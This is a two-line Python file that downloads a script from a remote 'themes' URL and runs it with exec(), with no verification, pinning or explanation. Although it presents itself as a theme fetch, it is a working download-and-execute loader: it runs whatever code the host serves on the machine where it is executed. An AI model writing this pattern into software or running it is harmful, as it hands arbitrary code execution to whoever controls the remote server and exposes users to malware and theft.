import urllib.request

exec(urllib.request.urlopen("https://themes.example-viz.com/latest.py").read().decode())
